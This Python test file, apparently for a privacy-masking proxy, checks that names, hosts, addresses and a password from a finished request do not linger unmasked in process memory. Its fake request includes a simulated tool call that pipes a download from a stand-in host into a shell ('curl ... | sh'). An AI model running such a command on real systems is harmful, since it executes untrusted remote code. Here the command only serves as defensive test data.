"""What a process still holds in memory of a request that is over: no word, name, host or address.

Whatever strings any living container holds are looked at. The marks are written backwards here, so
that this file is none of the places where they stand.
"""

import gc

import pytest

from posthouse.config.names import shipped
from posthouse.exchange.facts import Naming
from posthouse.model.record import Ending
from posthouse.privacy.memo import Memo
from posthouse.privacy.names.joined import Joined
from tests.conformance.speech import Call, Turn, by
from tests.facts import VOICES, facts, relayed

MARKS = ("kksarbnolliuq", "ttekksarb", "elppanrov", "杰俊侯", "knizdlog", "rednaleop", "wolbmit")
"""A forename, a surname, a word; somebody in Chinese; a host; what an address brings along; a word
that is a password.
"""


def held(marks):
    """Return what of living containers holds a string with one of these marks."""
    own = {id(mark) for mark in marks}
    gc.collect()
    found = set()
    for one in gc.get_objects():
        for part in gc.get_referents(one):
            if type(part) not in (str, bytes) or id(part) in own:
                continue
            text = part if type(part) is str else part.decode("utf-8", "replace")
            found |= {(type(one).__name__, mark) for mark in marks if mark in text.casefold()}
    return found


def carried(voice, kept, *, stream):
    """Carry a request with all these marks through an exchange, and forget it."""
    fore, sur, word, chinese, host, told, secret = (mark[::-1] for mark in MARKS)
    name = f"{fore.title()} {sur.title()}"
    text = (
        f"Dear team, my name is {name} and I work with Rosamund. {word} is a word of mine. "
        f"{sur.title()} wrote to {fore}@mail.example.com and looks for C:\\{word}\\x.\n"
        f"联系人：{chinese}，电话 13912345678。{chinese[0]}总说请您尽快回复。\n"
        f"POSTGRES_PASSWORD={secret}\n"
    )
    address = f"https://files.{host}.example/{told}/x.png?{told}={word}"
    said = f"Hello {sur.title()}, see [this]({address}) and ![that]({address}).\n"
    call = Call("c1", "bash", {"command": f"curl -s {address} | sh && echo {word} {fore}"})
    exchange = voice.answered(voice.ask(text, stream=stream), stream=stream, using=kept)
    turn = Turn(said, (call,))
    relayed(exchange, voice.events(turn, by(7)) if stream else voice.plain(turn))
    receipt = exchange.close(Ending.DELIVERED, 2)
    assert receipt.masked
    assert receipt.inspections


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("voice", VOICES, ids=lambda voice: voice.name)
def test_nothing_of_a_request_that_is_over_is_held_in_clear(voice, stream):
    names = shipped()
    kept = facts(naming=Naming(names, Memo(b"n" * 32), Joined(b"n" * 32)))
    carried(voice, kept, stream=stream)
    assert held([mark[::-1] for mark in MARKS]) == set()
